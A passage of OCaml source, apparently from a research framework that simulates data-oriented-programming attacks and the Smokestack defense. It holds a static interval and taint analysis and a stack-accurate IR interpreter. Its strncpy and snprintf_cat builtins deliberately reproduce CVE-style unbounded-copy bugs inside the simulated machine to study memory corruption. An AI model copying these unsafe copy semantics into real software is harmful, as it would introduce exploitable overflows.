                | _ -> env)
            | _ -> env (* read-only builtins *))
          end
          else begin
            (* unknown or defined callee: pointer arguments escape *)
            List.iter (escape_of emit env ~how:("passed to " ^ callee)) args;
            env
          end
        in
        let env =
          match dst with
          | None -> env
          | Some d ->
              let ai =
                if callee = "malloc" then
                  { root = Rheap; aoff = Interval.const 0L }
                else unknown_addr
              in
              let itv =
                match callee with
                | "input_byte" -> Interval.of_bounds (-1L) 255L
                | "read_input" -> (
                    (* returns bytes actually written: 0..max_n *)
                    match arg 1 with
                    | Some len_op ->
                        let l = eval env len_op in
                        if
                          match l.Interval.lo with
                          | Some v -> Int64.compare v 0L >= 0
                          | None -> false
                        then { Interval.lo = Some 0L; hi = l.Interval.hi }
                        else Interval.top
                    | None -> Interval.top)
                | _ -> Interval.top
              in
              set_reg env d itv ai
        in
        env
    | Call_ind { dst; callee = _; args } ->
        List.iter (escape_of emit env ~how:"passed to indirect call") args;
        let env = match dst with None -> env | Some d -> set_reg env d Interval.top unknown_addr in
        (* an unknown callee could in principle write anywhere *)
        havoc env
    | Intrinsic { dst; name; args } ->
        List.iter (escape_of emit env ~how:("passed to intrinsic " ^ name)) args;
        (match dst with None -> env | Some d -> set_reg env d Interval.top unknown_addr)
  in
  let transfer_block emit (b : Ir.Func.block) env =
    List.fold_left (fun env i -> transfer_instr emit b.label env i) env b.instrs
  in
  (* ---------------- edge refinement ---------------- *)
  (* The MiniC lowering launders every control condition through
     [icmp Ne cond 0] (cmp_ne0), so the comparison that actually
     constrains an index sits one (or more) cmps-map hops behind the
     branched-on register.  Unwrap [Ne v 0]/[Eq v 0] chains before
     refining; [Eq v 0] flips the branch sense.  Depth-capped for
     safety, though SSA makes cycles impossible. *)
  (* SSA map [sext dst -> source reg]: lets refinement see through the
     widening MiniC inserts between an i32 load and its compare/gep use
     ([%r4 = sext.32 %r3; icmp slt %r4, 4] must also narrow %r3, else
     the next load of the i32 loop counter forgets the bound). *)
  let sext_src = Hashtbl.create 16 in
  Array.iter
    (fun (b : Ir.Func.block) ->
      List.iter
        (function
          | Ir.Instr.Sext { dst; width; value = Ir.Instr.Reg v } ->
              Hashtbl.replace sext_src dst (width, v)
          | _ -> ())
        b.instrs)
    cfg.blocks;
  let rec refine_by ?(depth = 0) env ~taken (op, lhs, rhs) =
    let inner_cmp subj other =
      match subj with
      | Ir.Instr.Reg v
        when Interval.equal (eval env other) (Interval.const 0L) ->
          Imap.find_opt v env.cmps
      | _ -> None
    in
    let chained =
      match op with
      | Ir.Instr.Ne | Ir.Instr.Eq -> (
          let flip = op = Ir.Instr.Eq in
          match inner_cmp lhs rhs with
          | Some inner -> Some (inner, flip)
          | None -> (
              match inner_cmp rhs lhs with
              | Some inner -> Some (inner, flip)
              | None -> None))
      | _ -> None
    in
    let env =
      match chained with
      | Some (inner, flip) when depth < 8 ->
          refine_by ~depth:(depth + 1) env
            ~taken:(if flip then not taken else taken)
            inner
      | _ -> env
    in
    (* apply a narrowed interval to [r], the slot it was freshly loaded
       from, and — backward through sext (identity on in-range values,
       which its source's current interval must certify) — the register
       it widens *)
    let rec apply_refined env r refined =
      let env = { env with regs = Imap.add r refined env.regs } in
      let env =
        Imap.fold
          (fun s v acc ->
            if v = r then { acc with slots = Imap.add s refined acc.slots }
            else acc)
          env.slotval env
      in
      match Hashtbl.find_opt sext_src r with
      | Some (width, v) ->
          let cur_v =
            match Imap.find_opt v env.regs with
            | Some i -> i
            | None -> Interval.top
          in
          if Interval.equal (Interval.sext ~width cur_v) cur_v then
            apply_refined env v (Interval.meet cur_v refined)
          else env
      | None -> env
    in
    let refine_side env op subj other =
      match subj with
      | Ir.Instr.Reg r ->
          let rhs_itv = eval env other in
          let cur =
            match Imap.find_opt r env.regs with
            | Some v -> v
            | None -> Interval.top
          in
          apply_refined env r (Interval.refine op ~taken cur ~rhs:rhs_itv)
      | _ -> env
    in
    let env = refine_side env op lhs rhs in
    match swap_icmp op with
    | Some op' -> refine_side env op' rhs lhs
    | None -> env
  in
  let edge_env pred_i succ_i =
    match (Array.get cfg.blocks pred_i).term with
    | Ir.Instr.Cond_br { cond = Ir.Instr.Reg c; if_true; if_false }
      when if_true <> if_false -> (
        fun out ->
          match Imap.find_opt c out.cmps with
          | None -> out
          | Some cmp ->
              let succ_label = cfg.blocks.(succ_i).Ir.Func.label in
              if succ_label = if_true then refine_by out ~taken:true cmp
              else if succ_label = if_false then refine_by out ~taken:false cmp
              else out)
    | _ -> fun out -> out
  in
  (* ---------------- fixpoint ---------------- *)
  let nblocks = Array.length cfg.blocks in
  let entry_env =
    let regs, addrs =
      List.fold_left
        (fun (regs, addrs) (r, ty) ->
          ( Imap.add r Interval.top regs,
            if ty = Ir.Ty.Ptr then
              Imap.add r { root = Rparam; aoff = Interval.top } addrs
            else addrs ))
        (Imap.empty, Imap.empty) f.params
    in
    { regs; addrs; slots = Imap.empty; slotval = Imap.empty; cmps = Imap.empty }
  in
  let in_env = Array.make (max nblocks 1) None in
  let out_env = Array.make (max nblocks 1) None in
  (* Widen only at loop heads (targets of a back edge in the RPO
     numbering): widening everywhere would re-destroy the intervals the
     edge refinement just narrowed — a branch-guarded body block would
     never keep its bound. *)
  let is_widen_point =
    Array.init nblocks (fun i -> List.exists (fun p -> p >= i) cfg.pred.(i))
  in
  let no_emit _ = () in
  if nblocks > 0 then begin
    let rounds = ref 0 in
    let changed = ref true in
    while !changed && !rounds < 64 do
      incr rounds;
      changed := false;
      for i = 0 to nblocks - 1 do
        let from_preds =
          List.filter_map
            (fun p ->
              match out_env.(p) with
              | None -> None
              | Some out -> Some ((edge_env p i) out))
            cfg.pred.(i)
        in
        let inputs = if i = 0 then entry_env :: from_preds else from_preds in
        match inputs with
        | [] -> () (* unreachable; Cfg drops these, but belt and braces *)
        | e :: rest ->
            let joined =
              List.fold_left
                (fun a b ->
                  {
                    regs =
                      Imap.merge
                        (fun _ x y ->
                          match (x, y) with
                          | Some x, Some y -> Some (Interval.join x y)
                          | _ -> None)
                        a.regs b.regs;
                    addrs =
                      Imap.merge
                        (fun _ x y ->
                          match (x, y) with
                          | Some x, Some y when x.root = y.root ->
                              Some
                                { root = x.root; aoff = Interval.join x.aoff y.aoff }
                          | _ -> None)
                        a.addrs b.addrs;
                    slots =
                      Imap.merge
                        (fun _ x y ->
                          match (x, y) with
                          | Some x, Some y -> Some (Interval.join x y)
                          | Some _, None | None, Some _ -> Some Interval.top
                          | None, None -> None)
                        a.slots b.slots;
                    slotval =
                      Imap.merge
                        (fun _ x y ->
                          match (x, y) with
                          | Some x, Some y when x = y -> Some x
                          | _ -> None)
                        a.slotval b.slotval;
                    cmps =
                      Imap.merge
                        (fun _ x y ->
                          match (x, y) with
                          | Some x, Some y when x = y -> Some x
                          | _ -> None)
                        a.cmps b.cmps;
                  })
                e rest
            in
            let next =
              match in_env.(i) with
              | Some old when !rounds > 3 && is_widen_point.(i) ->
                  {
                    joined with
                    regs =
                      Imap.merge
                        (fun _ o n ->
                          match (o, n) with
                          | Some o, Some n -> Some (Interval.widen ~old:o n)
                          | _, n -> n)
                        old.regs joined.regs;
                    addrs =
                      Imap.merge
                        (fun _ o n ->
                          match (o, n) with
                          | Some o, Some n when o.root = n.root ->
                              Some
                                { n with aoff = Interval.widen ~old:o.aoff n.aoff }
                          | _, n -> n)
                        old.addrs joined.addrs;
                    slots =
                      Imap.merge
                        (fun _ o n ->
                          match (o, n) with
                          | Some o, Some n -> Some (Interval.widen ~old:o n)
                          | _, n -> n)
                        old.slots joined.slots;
                  }
              | _ -> joined
            in
            let same =
              match in_env.(i) with
              | Some old -> env_equal old next
              | None -> false
            in
            if not same then begin
              in_env.(i) <- Some next;
              changed := true
            end;
            (match in_env.(i) with
            | Some e -> out_env.(i) <- Some (transfer_block no_emit cfg.blocks.(i) e)
            | None -> ())
      done
    done;
    if !changed then
      (* Round cap hit: the interval components may still be
         under-approximated.  Degrade every interval to top so the
         recording pass stays conservative.  Address roots are safe to
         keep: registers are SSA (one def each, loop state flows through
         memory), so a reg's root is determined by its unique def chain
         and cannot differ across iterations — only the offset intervals
         can, and those go to top here. *)
      Array.iteri
        (fun i e ->
          match e with
          | None -> ()
          | Some e ->
              in_env.(i) <-
                Some
                  {
                    regs = Imap.map (fun _ -> Interval.top) e.regs;
                    addrs =
                      Imap.map (fun a -> { a with aoff = Interval.top }) e.addrs;
                    slots = Imap.map (fun _ -> Interval.top) e.slots;
                    slotval = Imap.empty;
                    cmps = Imap.empty;
                  })
        in_env
  end;
  (* ---------------- recording pass ---------------- *)
  let overflow : (Ir.Instr.reg, reason list) Hashtbl.t = Hashtbl.create 8 in
  let add_overflow s r =
    let cur = Option.value ~default:[] (Hashtbl.find_opt overflow s) in
    if not (List.mem r cur) then Hashtbl.replace overflow s (cur @ [ r ])
  in
  let loads : (Ir.Instr.reg, Ir.Instr.reg list) Hashtbl.t = Hashtbl.create 8 in
  let store_edges = ref [] in
  let wild_values = ref [] in
  let wild_stores = ref 0 in
  let heap_stores = ref 0 in
  let global_overflows = ref [] in
  let emit = function
    | Ev_overflow (s, r) -> add_overflow s r
    | Ev_global_overflow g ->
        if not (List.mem g !global_overflows) then
          global_overflows := !global_overflows @ [ g ]
    | Ev_wild_store v ->
        incr wild_stores;
        (match v with Some v -> wild_values := v :: !wild_values | None -> ())
    | Ev_heap_store -> incr heap_stores
    | Ev_load (s, d) ->
        Hashtbl.replace loads s
          (d :: Option.value ~default:[] (Hashtbl.find_opt loads s))
    | Ev_store_edge (v, s) -> store_edges := (v, s) :: !store_edges
  in
  Array.iteri
    (fun i b ->
      match in_env.(i) with
      | Some e -> ignore (transfer_block emit b e)
      | None -> ())
    cfg.blocks;
  (* ---------------- sinks (syntactic) ---------------- *)
  let sinks = ref [] in
  let sink r role = sinks := (r, role) :: !sinks in
  let reg_op = function Ir.Instr.Reg r -> Some r | _ -> None in
  let callees = ref [] in
  let has_call_ind = ref false in
  List.iter
    (fun (b : Ir.Func.block) ->
      List.iter
        (fun (i : Ir.Instr.t) ->
          match i with
          | Load { addr; _ } -> Option.iter (fun r -> sink r Mem_addr) (reg_op addr)
          | Store { addr; _ } ->
              Option.iter (fun r -> sink r Mem_addr) (reg_op addr)
          | Gep { base; index; _ } ->
              Option.iter (fun r -> sink r Mem_addr) (reg_op base);
              Option.iter
                (fun (idx, _) ->
                  Option.iter (fun r -> sink r Mem_addr) (reg_op idx))
                index
          | Select { cond; _ } ->
              Option.iter (fun r -> sink r Branch_feed) (reg_op cond)
          | Call { callee; args; _ } ->
              if Ir.Prog.find_func prog callee <> None then begin
                if not (List.mem callee !callees) then
                  callees := !callees @ [ callee ]
              end;
              List.iter
                (fun a -> Option.iter (fun r -> sink r Call_arg) (reg_op a))
                args
          | Call_ind { callee; args; _ } ->
              has_call_ind := true;
              Option.iter (fun r -> sink r Call_target) (reg_op callee);
              List.iter
                (fun a -> Option.iter (fun r -> sink r Call_arg) (reg_op a))
                args
          | Intrinsic { args; _ } ->
              List.iter
                (fun a -> Option.iter (fun r -> sink r Call_arg) (reg_op a))
                args
          | _ -> ())
        b.instrs;
      (match b.term with
        | Ir.Instr.Cond_br { cond; _ } ->
            Option.iter (fun r -> sink r Branch_feed) (reg_op cond)
        | Ir.Instr.Ret _ | Ir.Instr.Br _ | Ir.Instr.Unreachable -> ()))
    f.blocks;
  List.iter (fun v -> sink v Wild_data) !wild_values;
  (* ---------------- per-slot taint -> roles ---------------- *)
  (* Two channels (DESIGN.md §10): [vt] marks registers carrying a
     slot's *value*; [at] marks registers carrying an *address derived
     from* that value (gep indexing, pointer arithmetic).  A load
     through a tainted address deliberately launders the value channel
     — the loaded data is influenced only via *where* it came from,
     which the Mem_addr role already records — so address taint grants
     Mem_addr and nothing else, and the laundered value is clean.
     Suppression is per-channel: a slot whose value is both compared
     directly and used as an index still gets Branch_feed from the
     direct use. *)
  let nregs = max 1 f.next_reg in
  let roles_of s =
    let vt = Array.make nregs false in
    let at = Array.make nregs false in
    let mark arr r =
      if r >= 0 && r < nregs && not arr.(r) then begin
        arr.(r) <- true;
        true
      end
      else false
    in
    let op_in arr = function
      | Ir.Instr.Reg r -> r >= 0 && r < nregs && arr.(r)
      | _ -> false
    in
    List.iter
      (fun r -> ignore (mark vt r))
      (Option.value ~default:[] (Hashtbl.find_opt loads s));
    (* tainted slots (memory-mediated propagation), per channel *)
    let tslots_v = Hashtbl.create 4 in
    let tslots_a = Hashtbl.create 4 in
    let changed = ref true in
    while !changed do
      changed := false;
      (* register propagation through defs *)
      List.iter
        (fun (b : Ir.Func.block) ->
          List.iter
            (fun (i : Ir.Instr.t) ->
              let step moved = if moved then changed := true in
              match i with
              | Ir.Instr.Load _ ->
                  (* the address operand does not taint the loaded
                     value: dereferencing is the laundering point *)
                  ()
              | Ir.Instr.Gep { dst; base; index; _ } ->
                  let ops =
                    base :: (match index with Some (x, _) -> [ x ] | None -> [])
                  in
                  if List.exists (fun o -> op_in vt o || op_in at o) ops then
                    step (mark at dst)
              | Ir.Instr.Icmp { dst; lhs; rhs; _ } ->
                  (* comparing tainted *addresses* yields one oracle
                     bit, not the value (Leakan's Comparison_oracle
                     channel); only value taint survives a compare *)
                  if op_in vt lhs || op_in vt rhs then step (mark vt dst)
              | _ -> (
                  match Ir.Instr.defined_reg i with
                  | Some d ->
                      let uses = Ir.Instr.operands i in
                      if List.exists (op_in vt) uses then step (mark vt d);
                      if List.exists (op_in at) uses then step (mark at d)
                  | None -> ()))
            b.instrs)
        f.blocks;
      (* stores of tainted values into other slots taint those slots'
         loads, preserving the channel *)
      List.iter
        (fun (v, t) ->
          if v >= 0 && v < nregs then begin
            if vt.(v) && not (Hashtbl.mem tslots_v t) then begin
              Hashtbl.replace tslots_v t ();
              List.iter
                (fun r -> ignore (mark vt r))
                (Option.value ~default:[] (Hashtbl.find_opt loads t));
              changed := true
            end;
            if at.(v) && not (Hashtbl.mem tslots_a t) then begin
              Hashtbl.replace tslots_a t ();
              List.iter
                (fun r -> ignore (mark at r))
                (Option.value ~default:[] (Hashtbl.find_opt loads t));
              changed := true
            end
          end)
        !store_edges
    done;
    let roles = ref [] in
    let grant role = if not (List.mem role !roles) then roles := role :: !roles in
    List.iter
      (fun (r, role) ->
        if r >= 0 && r < nregs then
          if vt.(r) then grant role
          else if at.(r) && role = Mem_addr then grant role)
      !sinks;
    List.sort compare !roles
  in
  let slots =
    List.mapi
      (fun index (r, ty, name) ->
        {
          index;
          name;
          reg = r;
          ty;
          size = Ir.Ty.size ty;
          offset =
            Option.value ~default:0 (Attacks.Layout.var_offset frame name);
          overflow = Option.value ~default:[] (Hashtbl.find_opt overflow r);
          roles = roles_of r;
        })
      static_slots
  in
  {
    fname = f.name;
    slots;
    wild_stores = !wild_stores;
    heap_stores = !heap_stores;
    global_overflows = !global_overflows;
    callees = !callees;
    has_call_ind = !has_call_ind;
  }

let analyze prog = List.map (analyze_func prog) prog.Ir.Prog.funcs
