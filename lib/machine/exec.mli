(** IR interpreter with byte-accurate stack semantics.

    Functions execute against the segmented {!module:Memory}; every
    [alloca] really claims bytes of the downward-growing stack segment,
    so out-of-bounds writes corrupt whatever is adjacent — callee
    buffers overflow into caller locals exactly as on the paper's
    x86-64 testbed.  Return addresses are deliberately {e not} stack
    resident (the threat model grants the attacker no control-data
    corruption; DOP attacks never need it), so control flow lives on the
    OCaml call stack.

    Cycle accounting uses {!module:Cost}; intrinsics (the Smokestack
    runtime hooks) are provided by the embedder via
    {!register_intrinsic}. *)

type trace_event =
  | Ev_call of { func : string; depth : int; sp : int }
  | Ev_return of { func : string; depth : int }
  | Ev_intrinsic of { name : string; result : int64 option }
  | Ev_fault of { detail : string }
  | Ev_detected of { reason : string }
  | Ev_rng_degraded of { from_ : string; to_ : string option; reason : string }
      (** the randomness source failed a health test (or reported
          itself unavailable) and the runtime fell back to [to_]
          ([None] = fail-secure abort); scheme names as strings so the
          machine stays independent of [lib/rng] *)
      (** consumed by {!Trace}; [on_event = None] costs nothing *)

type state = {
  prog : Ir.Prog.t;
  mem : Memory.t;
  stack_top : int;
  stack_limit : int;
  mutable sp : int;
  mutable heap_next : int;
  heap_limit : int;
  mutable cycles : float;
  mutable instr_count : int;
  mutable call_count : int;
  mutable depth : int;
  mutable max_depth : int;
  mutable max_frame_bytes : int;
  mutable fuel : int;
  output : Buffer.t;
  globals : (string, int) Hashtbl.t;
  func_tokens : (string, int) Hashtbl.t;
  token_funcs : (int, string) Hashtbl.t;
  intrinsics : (string, intrinsic) Hashtbl.t;
  mutable input : state -> int -> string;
      (** invoked by the [read_input] builtin; receives the live state,
          so an adaptive adversary can inspect memory before answering *)
  mutable on_event : (trace_event -> unit) option;
  mutable cur_func : string;
      (** innermost function currently executing — per-state (not
          module-level) so concurrent runs in different domains
          attribute faults and detections to their own call chain *)
}

and intrinsic = state -> int64 array -> int64 option

type outcome =
  | Exit of int64
  | Fault of { fault : Memory.fault; func : string }
  | Detected of { reason : string; func : string }
      (** a defense check fired — Smokestack FID mismatch, canary, … *)
  | Fuel_exhausted

type stats = {
  cycles : float;
  instr_count : int;
  call_count : int;
  max_depth : int;
  max_frame_bytes : int;
  rss_bytes : int;
  output : string;
}

val pp_outcome : Format.formatter -> outcome -> unit
val outcome_to_string : outcome -> string

exception Detect of string
(** Raised by defense intrinsics to signal detection. *)

exception Exit_program of int64
(** Raised by the [exit] builtin; execution engines turn it into
    {!constructor:Exit}. *)

exception Out_of_fuel
(** Raised when the instruction budget runs out; execution engines turn
    it into {!constructor:Fuel_exhausted}. *)

val default_stack_top : int
(** Initial stack pointer of every prepared state (no ASLR in the
    baseline VM — the determinism DOP attacks rely on). *)

val default_heap_base : int
(** First address the bump allocator hands out. *)

(** {1 Address-space constants} — shared with alternative execution
    backends (see {!module:Backend}), which must charge the same
    segment-dependent load costs and resolve the same function
    tokens. *)

val func_token_base : int
(** Address of the first function token; function [i] of the program
    gets token [func_token_base + 16 * i]. *)

val rodata_base : int
val data_base : int

val prepare : ?heap_size:int -> ?stack_size:int -> Ir.Prog.t -> state
(** Loads globals into rodata/data segments and builds a fresh state.
    Defaults: 8 MiB heap, 1 MiB stack. *)

val register_intrinsic : state -> string -> intrinsic -> unit
val set_input : state -> (state -> int -> string) -> unit

val input_string : string -> state -> int -> string
(** An input callback that serves successive slices of a fixed
    string, then empty strings. *)

val global_addr : state -> string -> int
(** Loaded address of a global. Raises [Invalid_argument] if absent. *)

val charge : state -> float -> unit
(** Add cycles; for intrinsic implementations. *)

val run : ?fuel:int -> ?entry:string -> ?args:int64 list -> state -> outcome * stats
(** Executes [entry] (default ["main"]). [fuel] bounds executed
    instructions (default 200 million). The state is consumed: run each
    prepared state once. *)

(** {1 Shared execution services} — the pieces of the reference
    interpreter an alternative backend must reuse verbatim so that both
    backends produce bit-identical outcomes, cycle counts and output
    (see [test/test_engine.ml] for the differential contract). *)

val run_builtin : state -> string -> int64 array -> int64 option
(** Executes one builtin against the state (charging its cost model).
    Raises {!exception:Exit_program} for [exit] and
    {!Memory.Fault} for [abort] or unknown names. *)

val eval_binop : Ir.Instr.binop -> int64 -> int64 -> int64
(** Shared arithmetic, including the division-by-zero fault. *)

val eval_icmp : Ir.Instr.icmp -> int64 -> int64 -> int64

val stats_of_state : state -> stats
(** Snapshot of the accounting fields, as {!run} returns them. *)

val builtin_names : string list
(** Externs the machine resolves: C-library models and VM services
    ([memcpy], [memset], [strlen], [strcpy], [strncpy] with size_t
    semantics, [snprintf_cat], [memcmp], [malloc], [free], [print_int],
    [print_char], [print_str], [print_newline], [read_input],
    [input_byte], [exit], [abort]). *)
