type trace_event =
  | Ev_call of { func : string; depth : int; sp : int }
  | Ev_return of { func : string; depth : int }
  | Ev_intrinsic of { name : string; result : int64 option }
  | Ev_fault of { detail : string }
  | Ev_detected of { reason : string }
  | Ev_rng_degraded of { from_ : string; to_ : string option; reason : string }

type state = {
  prog : Ir.Prog.t;
  mem : Memory.t;
  stack_top : int;
  stack_limit : int;
  mutable sp : int;
  mutable heap_next : int;
  heap_limit : int;
  mutable cycles : float;
  mutable instr_count : int;
  mutable call_count : int;
  mutable depth : int;
  mutable max_depth : int;
  mutable max_frame_bytes : int;
  mutable fuel : int;
  output : Buffer.t;
  globals : (string, int) Hashtbl.t;
  func_tokens : (string, int) Hashtbl.t;
  token_funcs : (int, string) Hashtbl.t;
  intrinsics : (string, intrinsic) Hashtbl.t;
  mutable input : state -> int -> string;
  mutable on_event : (trace_event -> unit) option;
  mutable cur_func : string;
}

and intrinsic = state -> int64 array -> int64 option

type outcome =
  | Exit of int64
  | Fault of { fault : Memory.fault; func : string }
  | Detected of { reason : string; func : string }
  | Fuel_exhausted

type stats = {
  cycles : float;
  instr_count : int;
  call_count : int;
  max_depth : int;
  max_frame_bytes : int;
  rss_bytes : int;
  output : string;
}

let pp_outcome fmt = function
  | Exit code -> Format.fprintf fmt "exit %Ld" code
  | Fault { fault; func } ->
      Format.fprintf fmt "fault in %s: %a" func Memory.pp_fault fault
  | Detected { reason; func } ->
      Format.fprintf fmt "attack detected in %s: %s" func reason
  | Fuel_exhausted -> Format.pp_print_string fmt "fuel exhausted"

let outcome_to_string o = Format.asprintf "%a" pp_outcome o

exception Detect of string
exception Exit_program of int64
exception Out_of_fuel

(* Address-space map.  Function tokens live below every mapped segment
   so an indirect call through corrupted data faults. *)
let func_token_base = 0x1000
let rodata_base = 0x10000
let data_base = 0x200000
let heap_base = 0x400000
let stack_region_top = 0xd00000

let default_stack_top = stack_region_top
let default_heap_base = heap_base

let input_string s =
  let pos = ref 0 in
  fun (_ : state) max ->
    let n = min max (String.length s - !pos) in
    let n = Stdlib.max n 0 in
    let chunk = String.sub s !pos n in
    pos := !pos + n;
    chunk

let prepare ?(heap_size = 8 * 1024 * 1024) ?(stack_size = 1024 * 1024)
    (prog : Ir.Prog.t) =
  (* Lay out globals: read-only first (rodata), then writable (data). *)
  let place base globs =
    List.fold_left
      (fun (addr, placed) (g : Ir.Prog.global) ->
        let a = Sutil.Align.align_up addr ~alignment:(max 8 (Ir.Ty.alignment g.gty)) in
        (a + Ir.Ty.size g.gty, (g, a) :: placed))
      (base, []) globs
  in
  let ro, rw = List.partition (fun (g : Ir.Prog.global) -> not g.gwritable) prog.globals in
  let ro_end, ro_placed = place rodata_base ro in
  let rw_end, rw_placed = place data_base rw in
  let seg_pad = 64 in
  let mem =
    Memory.create
      [
        ("rodata", rodata_base, max 64 (ro_end - rodata_base + seg_pad), Memory.Read_only);
        ("data", data_base, max 64 (rw_end - data_base + seg_pad), Memory.Read_write);
        ("heap", heap_base, heap_size, Memory.Read_write);
        ( "stack",
          stack_region_top - stack_size,
          stack_size,
          Memory.Read_write );
      ]
  in
  let globals = Hashtbl.create 32 in
  List.iter
    (fun ((g : Ir.Prog.global), addr) ->
      Hashtbl.replace globals g.gname addr;
      if String.length g.ginit > 0 then Memory.write_protected mem addr g.ginit)
    (ro_placed @ rw_placed);
  let func_tokens = Hashtbl.create 16 and token_funcs = Hashtbl.create 16 in
  List.iteri
    (fun i (f : Ir.Func.t) ->
      let token = func_token_base + (i * 16) in
      Hashtbl.replace func_tokens f.name token;
      Hashtbl.replace token_funcs token f.name)
    prog.funcs;
  {
    prog;
    mem;
    stack_top = stack_region_top;
    stack_limit = stack_region_top - stack_size;
    sp = stack_region_top;
    heap_next = heap_base;
    heap_limit = heap_base + heap_size;
    cycles = 0.;
    instr_count = 0;
    call_count = 0;
    depth = 0;
    max_depth = 0;
    max_frame_bytes = 0;
    fuel = 0;
    output = Buffer.create 256;
    globals;
    func_tokens;
    token_funcs;
    intrinsics = Hashtbl.create 16;
    input = (fun _ _ -> "");
    on_event = None;
    cur_func = "?";
  }

let register_intrinsic st name fn = Hashtbl.replace st.intrinsics name fn
let set_input st f = st.input <- f

let global_addr st name =
  match Hashtbl.find_opt st.globals name with
  | Some a -> a
  | None -> invalid_arg (Printf.sprintf "Machine.Exec.global_addr: no global %s" name)

let charge (st : state) c = st.cycles <- st.cycles +. c

(* ------------------------------------------------------------------ *)
(* Builtins                                                            *)

let builtin_names =
  [
    "memcpy"; "memset"; "memcmp"; "strlen"; "strcpy"; "strncpy"; "snprintf_cat";
    "malloc"; "free"; "print_int"; "print_char"; "print_str"; "print_newline";
    "read_input"; "input_byte"; "exit"; "abort";
  ]

let charge_builtin st bytes =
  charge st (Cost.builtin_base +. (Cost.builtin_per_byte *. float_of_int bytes))

let charge_syscall st = charge st Cost.syscall

(* size_t semantics: int64 interpreted unsigned, clamped to an int. *)
let as_size v =
  if Int64.compare v 0L < 0 || Int64.compare v (Int64.of_int max_int) > 0 then max_int
  else Int64.to_int v

let run_builtin st name (args : int64 array) : int64 option =
  let arg i = args.(i) in
  let addr i = Int64.to_int (arg i) in
  match name with
  | "memcpy" ->
      let n = as_size (arg 2) in
      charge_builtin st n;
      let src = Memory.read_bytes st.mem (addr 1) n in
      Memory.write_bytes st.mem (addr 0) src;
      Some (arg 0)
  | "memset" ->
      let n = as_size (arg 2) in
      charge_builtin st n;
      Memory.write_bytes st.mem (addr 0)
        (String.make n (Char.chr (Int64.to_int (arg 1) land 0xff)));
      Some (arg 0)
  | "memcmp" ->
      let n = as_size (arg 2) in
      charge_builtin st n;
      let a = Memory.read_bytes st.mem (addr 0) n in
      let b = Memory.read_bytes st.mem (addr 1) n in
      Some (Int64.of_int (String.compare a b))
  | "strlen" ->
      let s = Memory.cstring st.mem (addr 0) in
      charge_builtin st (String.length s);
      Some (Int64.of_int (String.length s))
  | "strcpy" ->
      let s = Memory.cstring st.mem (addr 1) in
      charge_builtin st (String.length s + 1);
      Memory.write_bytes st.mem (addr 0) (s ^ "\000");
      Some (arg 0)
  | "strncpy" ->
      (* sstrncpy-style: copy up to n bytes (size_t!), stop after the
         source NUL.  A negative n, as in CVE-2006-5815, becomes a huge
         unsigned bound — the copy is limited only by the source. *)
      let n = as_size (arg 2) in
      let s = Memory.cstring st.mem (addr 1) in
      let copy = String.sub s 0 (min n (String.length s)) in
      let copy = if String.length copy < n then copy ^ "\000" else copy in
      charge_builtin st (String.length copy);
      Memory.write_bytes st.mem (addr 0) copy;
      Some (arg 0)
  | "snprintf_cat" ->
      (* Models the librelp use of snprintf: writes [src] NUL-terminated
         into dst bounded by size, but RETURNS the length it would have
         needed (CVE-2018-1000140's trap).  size is size_t: a negative
         32/64-bit difference becomes huge and unbounds the write. *)
      let size = as_size (arg 1) in
      let s = Memory.cstring st.mem (addr 2) in
      let need = String.length s in
      if size > 0 then begin
        let w = min need (size - 1) in
        charge_builtin st w;
        Memory.write_bytes st.mem (addr 0) (String.sub s 0 w ^ "\000")
      end
      else charge_builtin st 0;
      Some (Int64.of_int need)
  | "malloc" ->
      let n = max 1 (as_size (arg 0)) in
      charge_builtin st 0;
      let a = Sutil.Align.align_up st.heap_next ~alignment:16 in
      if a + n > st.heap_limit then Some 0L
      else begin
        st.heap_next <- a + n;
        Some (Int64.of_int a)
      end
  | "free" ->
      charge_builtin st 0;
      None
  | "print_int" ->
      charge_syscall st;
      charge_builtin st 8;
      Buffer.add_string st.output (Int64.to_string (arg 0));
      None
  | "print_char" ->
      charge_syscall st;
      charge_builtin st 1;
      Buffer.add_char st.output (Char.chr (Int64.to_int (arg 0) land 0xff));
      None
  | "print_str" ->
      let s = Memory.cstring st.mem (addr 0) in
      charge_builtin st (String.length s);
      Buffer.add_string st.output s;
      None
  | "print_newline" ->
      charge_syscall st;
      charge_builtin st 1;
      Buffer.add_char st.output '\n';
      None
  | "read_input" ->
      charge_syscall st;
      let max_n = as_size (arg 1) in
      let chunk = st.input st max_n in
      let chunk =
        if String.length chunk > max_n then String.sub chunk 0 max_n else chunk
      in
      charge_builtin st (String.length chunk);
      Memory.write_bytes st.mem (addr 0) chunk;
      Some (Int64.of_int (String.length chunk))
  | "input_byte" ->
      charge_syscall st;
      charge_builtin st 1;
      let chunk = st.input st 1 in
      if String.length chunk = 0 then Some (-1L)
      else Some (Int64.of_int (Char.code chunk.[0]))
  | "exit" -> raise (Exit_program (arg 0))
  | "abort" -> raise (Memory.Fault (Memory.Misc "abort() called"))
  | _ ->
      raise
        (Memory.Fault (Memory.Misc (Printf.sprintf "unknown builtin %s" name)))

(* ------------------------------------------------------------------ *)
(* Interpreter                                                         *)

let block_table : (string, (string, Ir.Func.block) Hashtbl.t) Hashtbl.t =
  Hashtbl.create 64

let blocks_of (f : Ir.Func.t) =
  (* Per-function label map, keyed by function identity via name +
     physical block list; rebuilt if the function was transformed. *)
  let key = f.name in
  match Hashtbl.find_opt block_table key with
  | Some tbl when Hashtbl.length tbl = List.length f.blocks
                  && List.for_all
                       (fun (b : Ir.Func.block) ->
                         match Hashtbl.find_opt tbl b.label with
                         | Some b' -> b' == b
                         | None -> false)
                       f.blocks ->
      tbl
  | _ ->
      let tbl = Hashtbl.create 16 in
      List.iter (fun (b : Ir.Func.block) -> Hashtbl.replace tbl b.label b) f.blocks;
      Hashtbl.replace block_table key tbl;
      tbl

let sdiv_check b =
  if Int64.equal b 0L then raise (Memory.Fault (Memory.Misc "division by zero"))

let eval_binop op a b =
  let open Ir.Instr in
  match op with
  | Add -> Int64.add a b
  | Sub -> Int64.sub a b
  | Mul -> Int64.mul a b
  | Sdiv ->
      sdiv_check b;
      Int64.div a b
  | Udiv ->
      sdiv_check b;
      Int64.unsigned_div a b
  | Srem ->
      sdiv_check b;
      Int64.rem a b
  | Urem ->
      sdiv_check b;
      Int64.unsigned_rem a b
  | And -> Int64.logand a b
  | Or -> Int64.logor a b
  | Xor -> Int64.logxor a b
  | Shl -> Int64.shift_left a (Int64.to_int b land 63)
  | Lshr -> Int64.shift_right_logical a (Int64.to_int b land 63)
  | Ashr -> Int64.shift_right a (Int64.to_int b land 63)

